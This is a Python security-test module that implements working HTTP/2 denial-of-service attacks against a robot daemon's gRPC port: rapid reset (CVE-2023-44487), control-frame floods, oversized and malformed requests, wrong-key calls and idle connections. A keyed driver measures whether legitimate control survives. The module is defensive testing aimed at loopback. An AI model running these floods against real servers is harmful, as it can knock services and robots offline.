"""What a peer without a key can throw at the daemon's gRPC port, and a keyed driver to witness it.

Every attack is a plain, time-bounded function over a raw socket and the `h2` library (grpclib's
own HTTP/2 engine, so nothing new to install) that returns what it saw; tests assert on that and
a bench prints it. Run one from its own process (an attacker sharing a GIL with the witness would
slow the witness, not the daemon):

    python -m tests.security.attacks rapid-reset 127.0.0.1:8080 --seconds 20

Tests aim these at 127.0.0.1 only. `source` (the CLI's --source) makes an attack's connections
leave from another loopback address (127.0.0.2, ...): another peer, as a stranger would be.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import select
import socket
import struct
import sys
import time
from collections.abc import Iterator
from dataclasses import asdict, dataclass, field
from typing import Any, Protocol

from grpclib.client import Channel
from grpclib.exceptions import GRPCError, StreamTerminatedError
from h2.config import H2Configuration
from h2.connection import H2Connection
from h2.errors import ErrorCodes
from h2.events import (
    ConnectionTerminated,
    DataReceived,
    ResponseReceived,
    StreamEnded,
    StreamReset,
    TrailersReceived,
)
from h2.exceptions import ProtocolError
from hyperframe.frame import PingFrame, PriorityFrame, SettingsFrame, WindowUpdateFrame

from tether.wire.proto.rpc.v1 import auth_grpc, auth_pb2
from tether.wire.viam.common.v1 import common_pb2
from tether.wire.viam.component.base.v1 import base_grpc, base_pb2
from tether.wire.viam.robot.v1 import robot_grpc, robot_pb2

AUTHENTICATE = "/proto.rpc.v1.AuthService/Authenticate"
#: Bytes a protobuf parser must refuse: field 1, length-delimited, declaring more than follows.
MALFORMED_BODY = b"\x0a\xff\xff\xff\x7f\x01"


def split_address(address: str) -> tuple[str, int]:
    """'HOST:PORT' as (host, port)."""
    host, _, port = address.rpartition(":")
    return host, int(port)


def grpc_message(body: bytes, *, declared: int | None = None) -> bytes:
    """A gRPC length-prefixed message (uncompressed); `declared` overrides the length it claims."""
    return struct.pack(">?I", False, len(body) if declared is None else declared) + body


@dataclass
class AttackReport:
    """What one attack did and what the daemon answered."""

    attack: str
    seconds: float = 0.0
    connections: int = 0         # connections opened
    closed_by_daemon: int = 0    # of them, closed by the daemon (GOAWAY, EOF or reset)
    refused_connections: int = 0  # connect() or the handshake failed
    requests: int = 0            # streams opened
    frames: int = 0              # control frames sent (PING, SETTINGS)
    bytes_sent: int = 0          # request body bytes sent
    statuses: dict[str, int] = field(default_factory=dict)  # grpc-status (or outcome) -> count
    first_close_after: float | None = None  # seconds from a connection's start to its closing
    goaway: int | None = None    # the last GOAWAY error code the daemon sent (when parsed)

    def count(self, outcome: str) -> None:
        """One more reply (or outcome) of this kind."""
        self.statuses[outcome] = self.statuses.get(outcome, 0) + 1

    def closed(self, after: float) -> None:
        """The daemon closed a connection `after` seconds after it opened."""
        self.closed_by_daemon += 1
        if self.first_close_after is None:
            self.first_close_after = after


class RawConnection:
    """One HTTP/2 client connection over a blocking socket; nothing checked on the way out."""

    def __init__(self, address: str, timeout: float = 2.0, source: str | None = None) -> None:
        self.sock = socket.create_connection(
            split_address(address), timeout, source_address=(source, 0) if source else None
        )
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.h2 = H2Connection(H2Configuration(
            client_side=True, header_encoding="utf-8", validate_outbound_headers=False,
            normalize_outbound_headers=False, validate_inbound_headers=False,
        ))
        self.h2.initiate_connection()
        self.opened = time.monotonic()
        self.closed = False
        self.goaway: int | None = None
        self.send()

    def send(self, extra: bytes = b"") -> None:
        """Write whatever h2 has queued, then `extra` raw bytes; a refused write marks it closed."""
        data = self.h2.data_to_send() + extra
        if not data or self.closed:
            return
        try:
            self.sock.sendall(data)
        except OSError:  # reset, broken pipe or a daemon that stopped reading (timeout)
            self.closed = True

    def pump(self, wait: float = 0.0, *, parse: bool = True) -> list[Any]:
        """Read what has arrived (waiting up to `wait` s for the first bytes); its h2 events."""
        events: list[Any] = []
        while not self.closed:
            ready, _, _ = select.select([self.sock], [], [], wait)
            if not ready:
                break
            wait = 0.0
            try:
                data = self.sock.recv(1 << 20)
            except OSError:
                data = b""
            if not data:
                self.closed = True
                break
            if parse:
                events += self._feed(data)
        return events

    def _feed(self, data: bytes) -> list[Any]:
        try:
            events = self.h2.receive_data(data)
        except ProtocolError:
            self.closed = True
            return []
        for event in events:
            if isinstance(event, ConnectionTerminated):
                self.goaway = int(event.error_code or 0)
                self.closed = True
        self.send()
        return list(events)

    def request_headers(self, path: str, metadata: dict[str, str] | None = None) -> list[Any]:
        """The headers of a gRPC call to path (plaintext HTTP/2)."""
        return [(":method", "POST"), (":scheme", "http"), (":path", path),
                (":authority", "tether"), ("content-type", "application/grpc"),
                ("te", "trailers"), *(metadata or {}).items()]

    def close(self) -> None:
        """Drop the socket."""
        self.closed = True
        with contextlib.suppress(OSError):
            self.sock.close()


def _connections(
    address: str, report: AttackReport, until: float, source: str | None = None
) -> Iterator[RawConnection]:
    """New connections until `until`, counting each one (and each refusal, with a short pause)."""
    while time.monotonic() < until:
        try:
            conn = RawConnection(address, source=source)
        except OSError:
            report.refused_connections += 1
            time.sleep(0.05)
            continue
        report.connections += 1
        try:
            yield conn
        finally:
            if conn.closed:
                report.closed(time.monotonic() - conn.opened)
            report.goaway = conn.goaway if conn.goaway is not None else report.goaway
            conn.close()


def rapid_reset(
    address: str, seconds: float, *, batch: int = 100, source: str | None = None
) -> AttackReport:
    """HTTP/2 rapid reset (CVE-2023-44487): open Authenticate calls and cancel each at once,
    `batch` pairs per write, reconnecting whenever the daemon closes the connection."""
    report, until = AttackReport("rapid-reset"), time.monotonic() + seconds
    started = time.monotonic()
    for conn in _connections(address, report, until, source):
        headers = conn.request_headers(AUTHENTICATE)
        while not conn.closed and time.monotonic() < until:
            for _ in range(batch):
                stream_id = conn.h2.get_next_available_stream_id()
                conn.h2.send_headers(stream_id, headers)
                conn.h2.reset_stream(stream_id, ErrorCodes.CANCEL)
            conn.send()
            report.requests += batch
            conn.pump(parse=False)
    report.seconds = time.monotonic() - started
    return report


def _frame_flood(
    name: str, frame: bytes, address: str, seconds: float, *, batch: int, source: str | None
) -> AttackReport:
    report, until = AttackReport(name), time.monotonic() + seconds
    started = time.monotonic()
    burst = frame * batch
    for conn in _connections(address, report, until, source):
        conn.pump(0.2)  # the daemon's SETTINGS first, so later bytes need no parsing
        while not conn.closed and time.monotonic() < until:
            conn.send(burst)
            report.frames += batch
            conn.pump(parse=False)  # read the daemon's ACKs as fast as it writes them
    report.seconds = time.monotonic() - started
    return report


def ping_flood(
    address: str, seconds: float, *, batch: int = 500, source: str | None = None
) -> AttackReport:
    """PING frames as fast as the socket takes them (each one the daemon must answer)."""
    frame = PingFrame(0, opaque_data=b"tether!!").serialize()
    return _frame_flood("ping-flood", frame, address, seconds, batch=batch, source=source)


def priority_flood(
    address: str, seconds: float, *, batch: int = 500, source: str | None = None
) -> AttackReport:
    """PRIORITY frames (for stream 1, never opened) as fast as the socket takes them."""
    frame = PriorityFrame(1, depends_on=0, stream_weight=15).serialize()
    return _frame_flood("priority-flood", frame, address, seconds, batch=batch, source=source)


def window_update_flood(
    address: str, seconds: float, *, batch: int = 500, source: str | None = None
) -> AttackReport:
    """Connection WINDOW_UPDATE frames of one byte each as fast as the socket takes them."""
    frame = WindowUpdateFrame(0, window_increment=1).serialize()
    return _frame_flood("window-update-flood", frame, address, seconds, batch=batch, source=source)


def settings_flood(
    address: str, seconds: float, *, batch: int = 500, source: str | None = None
) -> AttackReport:
    """Empty SETTINGS frames as fast as the socket takes them (each one the daemon must ACK)."""
    frame = SettingsFrame(0).serialize()
    return _frame_flood("settings-flood", frame, address, seconds, batch=batch, source=source)


def _await_reply(conn: RawConnection, stream_id: int, until: float) -> str:
    """The grpc-status of the call on stream_id ('reset', 'closed' or 'timeout' without one)."""
    status: str | None = None
    while status is None and not conn.closed and time.monotonic() < until:
        for event in conn.pump(0.05):
            if getattr(event, "stream_id", None) != stream_id:
                continue
            if isinstance(event, ResponseReceived | TrailersReceived):
                status = _grpc_status(event.headers) or status
            elif isinstance(event, StreamReset):
                status = status or "reset"
            elif isinstance(event, StreamEnded):
                status = status or "ended"
            elif isinstance(event, DataReceived):
                conn.h2.acknowledge_received_data(event.flow_controlled_length, stream_id)
    if status is not None:
        return status
    return "closed" if conn.closed else "timeout"


def _grpc_status(headers: Any) -> str | None:
    """The grpc-status header's value (h2 gives str here: header_encoding is set)."""
    for name, value in headers or []:
        if name in ("grpc-status", b"grpc-status"):
            return value.decode() if isinstance(value, bytes) else str(value)
    return None


def unary_call(
    conn: RawConnection, path: str, payload: bytes, *, timeout: float = 5.0,
    metadata: dict[str, str] | None = None,
) -> str:
    """One unary call with an already framed payload; its grpc-status (or what happened)."""
    stream_id = conn.h2.get_next_available_stream_id()
    conn.h2.send_headers(stream_id, conn.request_headers(path, metadata))
    conn.h2.send_data(stream_id, payload, end_stream=True)
    conn.send()
    return _await_reply(conn, stream_id, time.monotonic() + timeout)


def oversized_request(
    address: str, *, declared: int = (4 << 30) - 1, body: int = 256 << 20, seconds: float = 60.0,
    stall: float = 3.0, metadata: dict[str, str] | None = None, source: str | None = None,
) -> AttackReport:
    """One Authenticate call whose 5-byte prefix declares `declared` bytes, then `body` bytes of
    it as fast as flow control lets them through; stops at the daemon's answer, its reset, its
    close, `stall` s without window, or after `seconds`. `metadata` (a bearer token) makes it a
    keyed peer's call."""
    report, until = AttackReport("oversized-request"), time.monotonic() + seconds
    started = time.monotonic()
    conn = RawConnection(address, source=source)
    report.connections = 1
    stream_id = conn.h2.get_next_available_stream_id()
    conn.h2.send_headers(stream_id, conn.request_headers(AUTHENTICATE, metadata))
    conn.h2.send_data(stream_id, grpc_message(b"", declared=declared))
    report.requests = 1
    zeros = bytes(conn.h2.max_outbound_frame_size)
    outcome, stalled_since = "", time.monotonic()
    while not outcome and time.monotonic() < until:
        window = _sendable(conn, stream_id)
        while window and report.bytes_sent < body:
            size = min(window, len(zeros), body - report.bytes_sent)
            conn.h2.send_data(stream_id, zeros[:size])
            report.bytes_sent += size
            window -= size
            stalled_since = time.monotonic()
        conn.send()
        outcome = _outcome(conn.pump(0.05 if window == 0 else 0.0), stream_id)
        if conn.closed:
            outcome = outcome or "closed"
        elif report.bytes_sent >= body:
            outcome = outcome or "sent"
        elif time.monotonic() - stalled_since > stall:
            outcome = outcome or "stalled"
    report.count(outcome or "timeout")
    conn.close()
    report.seconds = time.monotonic() - started
    return report


def _sendable(conn: RawConnection, stream_id: int) -> int:
    """Body bytes h2 lets us send now (0 once the stream is closed)."""
    try:
        window = conn.h2.local_flow_control_window(stream_id)
    except ProtocolError:  # the stream is gone: reset or answered
        return 0
    return max(0, min(window, 1 << 20))


def _outcome(events: list[Any], stream_id: int) -> str:
    for event in events:
        if getattr(event, "stream_id", None) != stream_id:
            continue
        if isinstance(event, ResponseReceived | TrailersReceived):
            status = _grpc_status(event.headers)
            if status is not None:
                return status
        if isinstance(event, StreamReset):
            return "reset"
    return ""


def malformed_requests(
    address: str, count: int, *, timeout: float = 5.0, source: str | None = None
) -> AttackReport:
    """`count` Authenticate calls whose body is not a protobuf message, or ends before the
    length its prefix declares (in turn), one after another on as few connections as the
    daemon allows."""
    report = AttackReport("malformed-requests")
    started = time.monotonic()
    payloads = [grpc_message(MALFORMED_BODY), grpc_message(b"\x0a\x01", declared=10)]
    until = started + timeout * count
    for conn in _connections(address, report, until, source):
        while report.requests < count and not conn.closed:
            payload = payloads[report.requests % len(payloads)]
            report.requests += 1
            report.count(unary_call(conn, AUTHENTICATE, payload, timeout=timeout))
        if report.requests >= count:
            break
    report.seconds = time.monotonic() - started
    return report


#: Request headers grpclib's request handler fails on (a traceback per call, before the fix).
BAD_HEADERS: dict[str, list[tuple[str, str]]] = {
    "no :path": [(":method", "POST"), (":scheme", "http"), (":authority", "tether"),
                 ("content-type", "application/grpc"), ("te", "trailers")],
    "-bin metadata that is not base64": [
        (":method", "POST"), (":scheme", "http"), (":path", AUTHENTICATE),
        (":authority", "tether"), ("content-type", "application/grpc"), ("te", "trailers"),
        ("tether-bin", "a")],
    "a header value that is not ASCII": [
        (":method", "POST"), (":scheme", "http"), (":path", AUTHENTICATE),
        (":authority", "tether"), ("content-type", "application/grpc"), ("te", "trailers"),
        ("tether-name", "caf\u00e9")],
}


def malformed_headers(
    address: str, count: int, *, timeout: float = 5.0, source: str | None = None
) -> AttackReport:
    """`count` calls with the headers in BAD_HEADERS in turn, on as few connections as the
    daemon allows."""
    report = AttackReport("malformed-headers")
    started, payload = time.monotonic(), grpc_message(b"")
    kinds = list(BAD_HEADERS.values())
    for conn in _connections(address, report, started + timeout * count, source):
        while report.requests < count and not conn.closed:
            headers = kinds[report.requests % len(kinds)]
            report.requests += 1
            stream_id = conn.h2.get_next_available_stream_id()
            conn.h2.send_headers(stream_id, headers)
            conn.h2.send_data(stream_id, payload, end_stream=True)
            conn.send()
            report.count(_await_reply(conn, stream_id, time.monotonic() + timeout))
        if report.requests >= count:
            break
    report.seconds = time.monotonic() - started
    return report


def wrong_key_calls(
    address: str, count: int, *, timeout: float = 5.0, source: str | None = None
) -> AttackReport:
    """`count` Authenticate calls with a made-up key, one after another on ONE connection."""
    report, started = AttackReport("wrong-key-calls"), time.monotonic()
    request = auth_pb2.AuthenticateRequest(
        entity="guess", credentials=auth_pb2.Credentials(type="api-key", payload="guess")
    )
    payload = grpc_message(request.SerializeToString())
    conn = RawConnection(address, source=source)
    report.connections = 1
    while report.requests < count and not conn.closed:
        report.requests += 1
        report.count(unary_call(conn, AUTHENTICATE, payload, timeout=timeout))
    if conn.closed:
        report.closed(time.monotonic() - conn.opened)
    report.goaway = conn.goaway
    conn.close()
    report.seconds = time.monotonic() - started
    return report


def idle_connection(address: str, seconds: float, *, source: str | None = None) -> AttackReport:
    """An HTTP/2 connection that completes its handshake and then says nothing for `seconds`
    (answering the daemon's PINGs, as any HTTP/2 client library does)."""
    report, started = AttackReport("idle-connection"), time.monotonic()
    conn = RawConnection(address, source=source)
    report.connections = 1
    while not conn.closed and time.monotonic() - started < seconds:
        conn.pump(0.1)
    if conn.closed:
        report.closed(time.monotonic() - conn.opened)
    report.goaway = conn.goaway
    conn.close()
    report.seconds = time.monotonic() - started
    return report


class Attack(Protocol):
    """An attack run for `seconds` against HOST:PORT, its connections from `source`."""

    def __call__(
        self, address: str, seconds: float, *, source: str | None = None
    ) -> AttackReport: ...


ATTACKS: dict[str, Attack] = {
    "rapid-reset": rapid_reset,
    "ping-flood": ping_flood,
    "settings-flood": settings_flood,
    "priority-flood": priority_flood,
    "window-update-flood": window_update_flood,
    "oversized-request": lambda address, seconds, source=None: oversized_request(
        address, seconds=seconds, source=source
    ),
    "malformed-requests": lambda address, seconds, source=None: malformed_requests(
        address, max(1, round(seconds * 50)), timeout=min(5.0, seconds), source=source
    ),
    "malformed-headers": lambda address, seconds, source=None: malformed_headers(
        address, max(1, round(seconds * 50)), timeout=min(5.0, seconds), source=source
    ),
    "wrong-key-calls": lambda address, seconds, source=None: wrong_key_calls(
        address, max(1, round(seconds * 50)), timeout=min(5.0, seconds), source=source
    ),
    "idle-connection": idle_connection,
}


# -- the witness: a keyed client driving at 20 Hz ------------------------------------------------


@dataclass
class DriveReport:
    """What a keyed driver saw: its commands' round trips and its session's fate."""

    commands: int = 0
    errors: dict[str, int] = field(default_factory=dict)
    expired: int = 0                 # SESSION_EXPIRED answers (the rover was stopped under it)
    worst_gap: float = 0.0           # the longest time between two answered commands, s
    worst_round_trip: float = 0.0    # the slowest command, s

    def error(self, text: str) -> None:
        """Count one failed command by its error."""
        self.errors[text] = self.errors.get(text, 0) + 1


async def bearer(channel: Channel, key_id: str, secret: str) -> dict[str, str]:
    """Authorization metadata for a fresh token of the key, from Authenticate on `channel`."""
    reply = await auth_grpc.AuthServiceStub(channel).Authenticate(auth_pb2.AuthenticateRequest(
        entity=key_id, credentials=auth_pb2.Credentials(type="api-key", payload=secret)
    ), timeout=10)
    return {"authorization": f"Bearer {reply.access_token}"}


async def keyed_driver(
    address: str, key_id: str, secret: str, seconds: float, *, rate: float = 20.0,
    base: str = "base",
) -> DriveReport:
    """Authenticate, start a session, then SetPower with its id (each a heartbeat) at `rate` Hz
    for `seconds`; a SESSION_EXPIRED answer is counted and a new session started."""
    host, port = split_address(address)
    report, channel = DriveReport(), Channel(host, port)
    try:
        token = await bearer(channel, key_id, secret)
        robot, drive = robot_grpc.RobotServiceStub(channel), base_grpc.BaseServiceStub(channel)
        session = (await robot.StartSession(robot_pb2.StartSessionRequest(), metadata=token)).id
        request = base_pb2.SetPowerRequest(name=base, linear=common_pb2.Vector3(y=0.2))
        last = started = time.monotonic()
        while time.monotonic() - started < seconds:
            sent = time.monotonic()
            try:
                await drive.SetPower(request, metadata={**token, "viam-sid": session}, timeout=5)
            except (GRPCError, StreamTerminatedError, OSError, TimeoutError) as exc:
                text = getattr(exc, "message", None) or type(exc).__name__
                report.error(str(text))
                if text == "SESSION_EXPIRED":
                    report.expired += 1
                    reply_ = await robot.StartSession(robot_pb2.StartSessionRequest(),
                                                      metadata=token, timeout=5)
                    session = reply_.id
            else:
                now = time.monotonic()
                report.commands += 1
                report.worst_gap = max(report.worst_gap, now - last)
                report.worst_round_trip = max(report.worst_round_trip, now - sent)
                last = now
            await asyncio.sleep(max(0.0, sent + 1 / rate - time.monotonic()))
        report.worst_gap = max(report.worst_gap, time.monotonic() - last)
    finally:
        channel.close()
    return report


def main(argv: list[str] | None = None) -> int:
    """Run one attack from the command line; print its report as one JSON line."""
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("attack", choices=sorted(ATTACKS))
    parser.add_argument("address", help="HOST:PORT of the daemon (tests use 127.0.0.1)")
    parser.add_argument("--seconds", type=float, default=5.0)
    parser.add_argument("--source", help="a loopback address to attack from (e.g. 127.0.0.2)")
    args = parser.parse_args(argv)
    report = ATTACKS[args.attack](args.address, args.seconds, source=args.source)
    print(json.dumps(asdict(report)), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
